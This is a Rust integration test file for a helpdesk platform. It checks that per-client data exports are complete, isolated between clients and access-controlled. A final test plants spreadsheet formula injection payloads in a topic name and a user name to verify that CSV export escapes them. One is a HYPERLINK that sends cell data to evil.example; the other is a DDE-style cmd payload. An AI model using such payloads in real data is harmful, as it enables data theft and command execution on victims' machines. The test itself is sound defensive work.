//! Full export of one client: the archive of client A holds nothing of
//! client B, its counts match the API, it unpacks with the system `tar`,
//! every JSON line parses; B's client admin cannot touch A's exports; the
//! command line writes the same archive while the server runs.

use crate::common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::{Api, TestServer, client};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

const ADMIN: &str = "admin@zezaro.example";
const CA_ACME: &str = "kadmin@acme-energie.example";
const CA_NORD: &str = "kadmin@nordlicht.example";
const ANNA: &str = "anna.schmidt@acme-energie.example";
const V1: &str = "/api/v1";
const ACME: &str = "Acme Energie GmbH";
const NORD: &str = "Nordlicht Versand AG";

/// A case with a contact, a message and an attachment; returns (case id,
/// reference, attachment sha256).
async fn case_with_file(
    api: &Api,
    (project_id, client_id): (i64, i64),
    (name, email): (&str, &str),
    (subject, body): (&str, &str),
    file: &[u8],
) -> (i64, String, String) {
    let (status, contact) = api
        .post(
            &format!("{V1}/contacts"),
            json!({ "client_id": client_id, "name": name, "emails": [email], "phones": ["+49 170 5550101"] }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{contact}");
    let (status, case) = api
        .post(
            &format!("{V1}/cases"),
            json!({
                "project_id": project_id, "subject": subject, "channel": "email",
                "contact_id": contact["id"],
                "message": { "kind": "inbound", "body_text": body },
            }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{case}");
    let case_id = case["id"].as_i64().expect("case id");
    let response = api
        .raw(
            Method::POST,
            &format!("{V1}/cases/{case_id}/attachments?filename=beleg.txt"),
            Some(("text/plain", file.to_vec())),
            &[],
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let sha = hex_sha256(file);
    (case_id, case["ref"].as_str().expect("ref").to_string(), sha)
}

fn hex_sha256(bytes: &[u8]) -> String {
    zezaro::db::hex(ring::digest::digest(&ring::digest::SHA256, bytes).as_ref())
}

async fn wait_done(api: &Api, client_id: i64, job: &str) -> Value {
    for _ in 0..600 {
        let (status, body) = api
            .get(&format!("{V1}/clients/{client_id}/exports/{job}"))
            .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        match body["state"].as_str() {
            Some("running") => tokio::time::sleep(Duration::from_millis(50)).await,
            Some("done") => return body,
            other => panic!("export ended {other:?}: {body}"),
        }
    }
    panic!("export did not finish");
}

/// Unpacks with the system tar; returns the top folder.
fn untar(archive: &Path, into: &Path) -> PathBuf {
    let status = std::process::Command::new("tar")
        .arg("-xzf")
        .arg(archive)
        .arg("-C")
        .arg(into)
        .status()
        .expect("run tar");
    assert!(status.success(), "tar -xzf failed");
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(into)
        .expect("read dir")
        .map(|e| e.expect("entry").path())
        .collect();
    assert_eq!(dirs.len(), 1, "one top folder: {dirs:?}");
    dirs.remove(0)
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).expect("read dir") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            out.extend(files_under(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// Rows of a .jsonl file, each parsed.
fn jsonl(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).expect("read jsonl");
    text.lines()
        .map(|line| {
            serde_json::from_str(line)
                .unwrap_or_else(|e| panic!("{}: line does not parse: {e}: {line}", path.display()))
        })
        .collect()
}

/// Rows of a .csv file as maps of header → value.
fn csv_rows(path: &Path) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_path(path).expect("csv");
    let headers = reader.headers().expect("headers").clone();
    reader
        .records()
        .map(|r| {
            let r = r.expect("csv record");
            headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

fn items(body: &Value) -> Vec<Value> {
    body["items"].as_array().cloned().unwrap_or_default()
}

async fn id_of(ts: &TestServer, list: &str, field: &str, value: &str) -> i64 {
    ts.id_of(&format!("{V1}{list}"), field, value).await
}

/// Every case of the project, through the API.
async fn cases_of(api: &Api, project_id: i64) -> Vec<Value> {
    let mut out = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut path = format!("{V1}/cases?project_id={project_id}&limit=200");
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={}", urlencode(c)));
        }
        let (status, page) = api.get(&path).await;
        assert_eq!(status, StatusCode::OK, "{page}");
        out.extend(items(&page));
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => return out,
        }
    }
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A raw e-mail of the case, as ingestion stores it: the blob file, its
/// row, and the `mail_inbound` record. Returns the sha256.
fn raw_mail(ts: &TestServer, case_id: i64, raw: &str) -> String {
    let sha = zezaro::db::hex(ring::digest::digest(&ring::digest::SHA256, raw.as_bytes()).as_ref());
    let path = ts
        .dir
        .path()
        .join("attachments")
        .join(&sha[0..2])
        .join(&sha[2..4]);
    std::fs::create_dir_all(&path).expect("dir");
    std::fs::write(path.join(&sha), raw).expect("write raw mail");
    let (key, sha2, size) = (format!("sha256:{sha}"), sha.clone(), raw.len() as i64);
    ts.server
        .state
        .db
        .write_blocking(move |tx| {
            tx.execute(
                "INSERT OR IGNORE INTO blobs (sha256, size, created_at) VALUES (?1, ?2, '2026-01-01T00:00:00.000Z')",
                rusqlite::params![sha2, size],
            )?;
            tx.execute(
                "INSERT INTO mail_inbound (message_key, raw_sha256, raw_size, case_id, received_at)
                 VALUES (?1, ?2, ?3, ?4, '2026-01-01T00:00:00.000Z')",
                rusqlite::params![key, sha2, size, case_id],
            )
            .map_err(zezaro::db::StoreError::from)
        })
        .expect("raw mail stored");
    sha
}

#[actix_web::test]
async fn client_export_is_complete_isolated_and_readable() {
    let ts = common::demo_server().await;
    let admin = client(&ts, ADMIN);
    let ca_acme = client(&ts, CA_ACME);
    let ca_nord = client(&ts, CA_NORD);
    let acme = id_of(&ts, "/clients", "name", ACME).await;
    let nord = id_of(&ts, "/clients", "name", NORD).await;
    let acme_project = id_of(&ts, "/projects", "key", "ACME").await;
    let nord_project = id_of(&ts, "/projects", "key", "NORD").await;

    // Data of both clients, each with a file of its own and a shared one.
    let (a_case, a_ref, a_sha) = case_with_file(
        &ca_acme,
        (acme_project, acme),
        ("Amalie Exportfeld", "amalie.exportfeld@kunde-a.example"),
        ("Zählerstand Export A", "Mein Zählerstand ist 4711."),
        b"Inhalt nur bei Acme",
    )
    .await;
    let (b_case, b_ref, b_sha) = case_with_file(
        &ca_nord,
        (nord_project, nord),
        ("Bertram Geheimnord", "bertram.geheimnord@kunde-b.example"),
        (
            "Paket Geheimnord verloren",
            "Sendung Geheimnord-Paket 0815 fehlt.",
        ),
        b"Inhalt nur bei Nordlicht, streng vertraulich",
    )
    .await;

    let a_raw = raw_mail(
        &ts,
        a_case,
        "From: amalie@kunde-a.example\r\nSubject: A\r\n\r\nRohmail A",
    );
    let b_raw = raw_mail(
        &ts,
        b_case,
        "From: bertram.geheimnord@kunde-b.example\r\nSubject: B\r\n\r\nRohmail Geheimnord",
    );

    // A file in A's knowledge base (the demo seeded its articles).
    let (_, articles) = ca_acme
        .get(&format!("{V1}/knowledge/articles?client_id={acme}&limit=1"))
        .await;
    let kb_article = items(&articles)[0]["id"].as_i64().expect("a demo article");
    let kb_bytes = b"kb-export-file".to_vec();
    let response = ca_acme
        .raw(
            Method::POST,
            &format!("{V1}/knowledge/articles/{kb_article}/attachments?filename=plan.txt"),
            Some(("text/plain", kb_bytes.clone())),
            &[],
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let kb_sha = hex_sha256(&kb_bytes);

    // Start as A's client admin; watch it; download.
    let (status, job) = ca_acme
        .post(&format!("{V1}/clients/{acme}/exports"), json!({}))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
    let job_id = job["id"].as_str().expect("job id").to_string();
    let done = wait_done(&ca_acme, acme, &job_id).await;
    assert_eq!(done["rows_written"], done["rows_total"], "{done}");
    assert!(done["bytes"].as_u64().unwrap_or(0) > 0, "{done}");
    let (status, list) = ca_acme.get(&format!("{V1}/clients/{acme}/exports")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(items(&list).iter().any(|j| j["id"] == job_id.as_str()));

    let url = done["download_url"]
        .as_str()
        .expect("download url")
        .to_string();
    let response = ca_acme.raw(Method::GET, &url, None, &[]).await;
    assert_eq!(response.status(), StatusCode::OK);
    let disposition = response
        .headers()
        .get("content-disposition")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    assert!(
        disposition.starts_with("attachment") && disposition.contains(".tar.gz"),
        "{disposition}"
    );
    let bytes = response.bytes().await.expect("archive");
    let work = tempfile::tempdir().expect("dir");
    let archive = work.path().join("a.tar.gz");
    std::fs::write(&archive, &bytes).expect("save");
    let unpacked = work.path().join("unpacked");
    std::fs::create_dir(&unpacked).expect("dir");
    let top = untar(&archive, &unpacked);

    // The knowledge base: articles, every version, the file's row and content.
    let kb_articles = csv_rows(&top.join("kb_articles.csv"));
    assert!(kb_articles.len() >= 12, "{kb_articles:?}");
    let versions = jsonl(&top.join("kb_article_versions.jsonl"));
    assert!(
        versions
            .iter()
            .any(|v| v["language"] == "en" && v["state"] == "published")
    );
    assert!(
        versions.iter().any(|v| v["state"] == "review"),
        "every version, not only published"
    );
    assert!(versions.iter().all(|v| {
        kb_articles
            .iter()
            .any(|a| a["id"].parse::<i64>().ok() == v["article_id"].as_i64())
    }));
    let kb_files = csv_rows(&top.join("kb_attachments.csv"));
    assert!(
        kb_files
            .iter()
            .any(|f| f["sha256"] == kb_sha && f["filename"] == "plan.txt"),
        "{kb_files:?}"
    );
    assert_eq!(
        std::fs::read(top.join("files").join(&kb_sha)).expect("the knowledge file"),
        kb_bytes
    );
    assert!(!csv_rows(&top.join("kb_categories.csv")).is_empty());
    // The demo switched Acme's help centers on; Nordlicht's are not Acme's.
    let help_centers = csv_rows(&top.join("kb_help_centers.csv"));
    assert!(
        !help_centers.is_empty() && help_centers.iter().all(|h| h["enabled"] == "1"),
        "{help_centers:?}"
    );

    // The manifest: counts and hashes of every file.
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(top.join("manifest.json")).expect("manifest"))
            .expect("manifest parses");
    assert_eq!(manifest["format_version"], 1);
    assert_eq!(manifest["client"]["id"], acme);
    assert_eq!(manifest["client"]["name"], ACME);
    let mut total_rows = 0u64;
    for file in manifest["files"].as_array().expect("files") {
        let path = top.join(file["path"].as_str().expect("path"));
        let content = std::fs::read(&path).expect("listed file exists");
        assert_eq!(file["bytes"].as_u64(), Some(content.len() as u64), "{file}");
        let out = std::process::Command::new("sha256sum")
            .arg(&path)
            .output()
            .expect("sha256sum");
        let sum = String::from_utf8_lossy(&out.stdout);
        assert_eq!(
            sum.split_whitespace().next(),
            file["sha256"].as_str(),
            "{file}"
        );
        let rows = file["rows"].as_u64().expect("rows");
        total_rows += rows;
        let name = file["path"].as_str().unwrap_or_default();
        if name.ends_with(".jsonl") {
            assert_eq!(jsonl(&path).len() as u64, rows, "{name}");
        } else if name.ends_with(".csv") {
            assert_eq!(csv_rows(&path).len() as u64, rows, "{name}");
        }
    }
    let blob_count = manifest["blobs"]["count"].as_u64().expect("blobs");
    assert_eq!(done["rows_written"].as_u64(), Some(total_rows + blob_count));
    let readme = std::fs::read_to_string(top.join("README.md")).expect("readme");
    for file in manifest["files"].as_array().expect("files") {
        let name = file["path"].as_str().unwrap_or_default();
        if name != "README.md" {
            assert!(
                readme.contains(&format!("### {name}")),
                "README lacks {name}"
            );
        }
    }
    assert!(readme.contains("`body_text`") && readme.contains("`sha256`"));

    // Counts match the API.
    let (_, projects) = ca_acme.get(&format!("{V1}/projects")).await;
    let api_projects: BTreeSet<i64> = items(&projects)
        .iter()
        .filter(|p| p["client_id"] == acme)
        .filter_map(|p| p["id"].as_i64())
        .collect();
    let exported_projects: BTreeSet<i64> = csv_rows(&top.join("projects.csv"))
        .iter()
        .map(|r| r["id"].parse().expect("id"))
        .collect();
    assert_eq!(api_projects, exported_projects);
    // The forecasts (issue 18): every version of both Acme projects, with
    // their volumes, and nothing of Nordlicht's.
    let fc_versions = csv_rows(&top.join("forecast_versions.csv"));
    let fc_projects: BTreeSet<i64> = fc_versions
        .iter()
        .map(|r| r["project_id"].parse().expect("project id"))
        .collect();
    assert_eq!(fc_projects.len(), 2, "{fc_versions:?}");
    assert!(fc_projects.is_subset(&api_projects));
    assert_eq!(fc_versions.len(), 4, "two versions per Acme project");
    let fc_version_ids: BTreeSet<&str> = fc_versions.iter().map(|r| r["id"].as_str()).collect();
    let fc_volumes = csv_rows(&top.join("forecast_volumes.csv"));
    assert!(fc_volumes.len() >= 2 * 6 * 2, "{}", fc_volumes.len());
    assert!(
        fc_volumes
            .iter()
            .all(|v| fc_version_ids.contains(v["version_id"].as_str()))
    );
    assert!(
        fc_volumes.iter().all(|v| v["channel"] != "chat"),
        "Nordlicht's chat"
    );
    let fc_settings = csv_rows(&top.join("forecast_settings.csv"));
    assert_eq!(fc_settings.len(), 2);
    assert!(top.join("forecast_profiles.jsonl").exists());
    assert!(top.join("forecast_deviations.csv").exists());
    let mut api_cases = BTreeSet::new();
    for project in &api_projects {
        for case in cases_of(&ca_acme, *project).await {
            api_cases.insert(case["id"].as_i64().expect("id"));
        }
    }
    let cases = jsonl(&top.join("cases.jsonl"));
    let exported_cases: BTreeSet<i64> = cases.iter().filter_map(|c| c["id"].as_i64()).collect();
    assert_eq!(api_cases, exported_cases);
    assert!(exported_cases.contains(&a_case));
    let (_, contacts) = admin
        .get(&format!("{V1}/contacts?client_id={acme}&limit=500"))
        .await;
    let api_contacts: BTreeSet<i64> = items(&contacts)
        .iter()
        .filter_map(|c| c["id"].as_i64())
        .collect();
    let exported_contacts: BTreeSet<i64> = jsonl(&top.join("contacts.jsonl"))
        .iter()
        .filter(|c| c["merged_into_id"].is_null())
        .filter_map(|c| c["id"].as_i64())
        .collect();
    assert_eq!(api_contacts, exported_contacts);
    let a_row = cases.iter().find(|c| c["id"] == a_case).expect("A's case");
    assert_eq!(a_row["reference"], a_ref.as_str());
    assert!(a_row["custom"].is_object() && a_row["tags"].is_array());
    let messages = jsonl(&top.join("messages.jsonl"));
    assert!(
        messages
            .iter()
            .any(|m| m["case_id"] == a_case && m["body_text"] == "Mein Zählerstand ist 4711.")
    );
    assert_eq!(
        std::fs::read(top.join("files").join(&a_sha)).expect("A's file"),
        b"Inhalt nur bei Acme"
    );
    assert!(top.join("files").join(&a_raw).exists(), "A's raw mail");
    assert!(!top.join("files").join(&b_raw).exists(), "B's raw mail");
    let inbound = jsonl(&top.join("mail_inbound.jsonl"));
    assert_eq!(inbound.len(), 1);
    assert_eq!(inbound[0]["raw_sha256"], a_raw.as_str());
    let users = csv_rows(&top.join("users.csv"));
    assert!(users.iter().any(|u| u["email"] == CA_ACME));
    assert!(
        users.iter().all(|u| !u.contains_key("password_hash")),
        "no password hashes"
    );

    // Nothing of B: names, e-mails, case numbers, ids, file hashes.
    let (_, b_users) = admin.get(&format!("{V1}/users?client_id={nord}")).await;
    let (_, b_contacts) = admin
        .get(&format!("{V1}/contacts?client_id={nord}&limit=500"))
        .await;
    let a_contact_names: BTreeSet<String> = items(&contacts)
        .iter()
        .filter_map(|c| c["name"].as_str().map(str::to_string))
        .collect();
    let mut needles: Vec<String> = vec![
        NORD.to_string(),
        b_ref.clone(),
        b_sha.clone(),
        b_raw.clone(),
        "Geheimnord".into(),
        "kunde-b.example".into(),
        "streng vertraulich".into(),
    ];
    for u in items(&b_users) {
        needles.push(u["email"].as_str().expect("email").to_string());
    }
    for c in items(&b_contacts) {
        // Demo people may share a name across clients; addresses do not.
        let name = c["name"].as_str().unwrap_or_default().to_string();
        if !a_contact_names.contains(&name) {
            needles.push(name);
        }
        for e in c["emails"].as_array().cloned().unwrap_or_default() {
            needles.push(e.as_str().unwrap_or_default().to_string());
        }
    }
    let b_cases: BTreeSet<i64> = cases_of(&ca_nord, nord_project)
        .await
        .iter()
        .filter_map(|c| c["id"].as_i64())
        .collect();
    assert!(b_cases.contains(&b_case));
    for c in cases_of(&ca_nord, nord_project).await {
        needles.push(c["ref"].as_str().unwrap_or_default().to_string());
    }
    assert!(needles.len() > 8, "B has data to look for: {needles:?}");
    for path in files_under(&top) {
        let content = String::from_utf8_lossy(&std::fs::read(&path).expect("read")).to_string();
        for needle in &needles {
            assert!(
                !needle.is_empty() && !content.contains(needle.as_str()),
                "{} contains B's {needle:?}",
                path.display()
            );
        }
    }
    assert!(!top.join("files").join(&b_sha).exists());
    assert!(exported_cases.is_disjoint(&b_cases));
    for m in &messages {
        let case_id = m["case_id"].as_i64().expect("case id");
        assert!(!b_cases.contains(&case_id), "message of B's case {m}");
    }
    for h in jsonl(&top.join("case_history.jsonl")) {
        assert!(!b_cases.contains(&h["case_id"].as_i64().expect("case id")));
    }
    for e in jsonl(&top.join("audit_log.jsonl")) {
        assert!(e["action"].is_string());
    }
    let b_user_ids: BTreeSet<i64> = items(&b_users)
        .iter()
        .filter_map(|u| u["id"].as_i64())
        .collect();
    for u in &users {
        assert!(!b_user_ids.contains(&u["id"].parse::<i64>().expect("id")));
    }

    // B's client admin: A's export does not exist for them; an agent of A
    // may not export.
    let base = format!("{V1}/clients/{acme}/exports");
    for (method, path) in [
        (Method::POST, base.clone()),
        (Method::GET, base.clone()),
        (Method::GET, format!("{base}/{job_id}")),
        (Method::GET, format!("{base}/{job_id}/download")),
        (Method::DELETE, format!("{base}/{job_id}")),
    ] {
        let (status, body) = ca_nord.call(method.clone(), &path, None).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{method} {path}: {body}");
        assert_eq!(body["code"], "not-found");
    }
    // A's job id under B's client is no job of B's either.
    let (status, _) = ca_nord
        .get(&format!("{V1}/clients/{nord}/exports/{job_id}"))
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let anna = client(&ts, ANNA);
    let (status, body) = anna.post(&base, json!({})).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");

    // The platform admin exports any client; the job is audited.
    let (status, job_b) = admin
        .post(&format!("{V1}/clients/{nord}/exports"), json!({}))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job_b}");
    let job_b = job_b["id"].as_str().expect("id").to_string();
    wait_done(&admin, nord, &job_b).await;
    let (_, audit) = ca_acme
        .get(&format!("{V1}/audit?object_type=client&object_id={acme}"))
        .await;
    assert!(items(&audit).iter().any(|e| e["action"] == "client.export"));

    // Deleting removes the archive.
    let (status, _) = ca_acme.delete(&format!("{base}/{job_id}")).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = ca_acme.get(&format!("{base}/{job_id}")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let left: Vec<_> = std::fs::read_dir(ts.dir.path().join("exports"))
        .expect("exports dir")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(left.len(), 1, "only B's archive stays: {left:?}");

    // The command line writes the same data while the server runs.
    let out = work.path().join("cli.tar.gz");
    let run = common::process::zezaro(&[
        "export",
        "--data-dir",
        ts.dir.path().to_str().expect("path"),
        "--client",
        ACME,
        "--out",
        out.to_str().expect("path"),
    ])
    .output()
    .expect("run zezaro export");
    assert!(
        run.status.success(),
        "zezaro export: {}",
        String::from_utf8_lossy(&run.stderr)
    );
    let cli_dir = work.path().join("cli");
    std::fs::create_dir(&cli_dir).expect("dir");
    let cli_top = untar(&out, &cli_dir);
    let cli_cases: BTreeSet<i64> = jsonl(&cli_top.join("cases.jsonl"))
        .iter()
        .filter_map(|c| c["id"].as_i64())
        .collect();
    assert_eq!(cli_cases, exported_cases);
    assert_eq!(jsonl(&cli_top.join("messages.jsonl")).len(), messages.len());
    assert!(
        !std::fs::read_dir(work.path()).expect("dir").any(|e| e
            .expect("entry")
            .file_name()
            .to_string_lossy()
            .ends_with(".part")),
        "no temporary file left"
    );
    let missing = common::process::zezaro(&[
        "export",
        "--data-dir",
        ts.dir.path().to_str().expect("path"),
        "--client",
        "No Such Client",
        "--out",
        work.path().join("x.tar.gz").to_str().expect("path"),
    ])
    .output()
    .expect("run");
    assert!(!missing.status.success());
    ts.server.stop().await;
}

/// Spreadsheet formula injection: names that a spreadsheet would run as a
/// formula come out of the CSV files as text (a leading `'`), in a topic
/// and in a user's name; the JSON Lines files keep the value as stored.
#[actix_web::test]
async fn csv_cells_cannot_run_as_formulas() {
    let ts = common::demo_server().await;
    let admin = client(&ts, ADMIN);
    let ca_acme = client(&ts, CA_ACME);
    let acme = id_of(&ts, "/clients", "name", ACME).await;
    let acme_project = id_of(&ts, "/projects", "key", "ACME").await;
    let anna = id_of(&ts, "/users", "email", ANNA).await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")";
    let user_formula = "@SUM(1+1)*cmd|' /C calc'!A0";

    let (status, topic) = ca_acme
        .post(
            &format!("{V1}/projects/{acme_project}/topics"),
            json!({ "name": formula }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{topic}");
    let (status, user) = admin
        .patch(
            &format!("{V1}/users/{anna}"),
            json!({ "name": user_formula }),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{user}");

    let (status, job) = ca_acme
        .post(&format!("{V1}/clients/{acme}/exports"), json!({}))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
    let job_id = job["id"].as_str().expect("job id").to_string();
    let done = wait_done(&ca_acme, acme, &job_id).await;
    let url = done["download_url"].as_str().expect("download url");
    let response = ca_acme.raw(Method::GET, url, None, &[]).await;
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = response.bytes().await.expect("archive");
    let work = tempfile::tempdir().expect("dir");
    let archive = work.path().join("a.tar.gz");
    std::fs::write(&archive, &bytes).expect("save");
    let unpacked = work.path().join("unpacked");
    std::fs::create_dir(&unpacked).expect("dir");
    let top = untar(&archive, &unpacked);

    let topics = csv_rows(&top.join("topics.csv"));
    let names: Vec<&str> = topics.iter().map(|t| t["name"].as_str()).collect();
    assert!(names.contains(&format!("'{formula}").as_str()), "{names:?}");
    assert!(!names.iter().any(|n| n.starts_with('=')), "{names:?}");
    let users = csv_rows(&top.join("users.csv"));
    let names: Vec<&str> = users.iter().map(|u| u["name"].as_str()).collect();
    assert!(
        names.contains(&format!("'{user_formula}").as_str()),
        "{names:?}"
    );
    // Every text cell of every CSV file: none starts like a formula.
    for path in files_under(&top) {
        if path.extension().is_some_and(|e| e == "csv") {
            for row in csv_rows(&path) {
                for value in row.values() {
                    assert!(
                        !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{}: {value}",
                        path.display()
                    );
                }
            }
        }
    }
    let readme = std::fs::read_to_string(top.join("README.md")).expect("readme");
    assert!(readme.contains("formula"), "the README explains the quote");
    ts.server.stop().await;
}
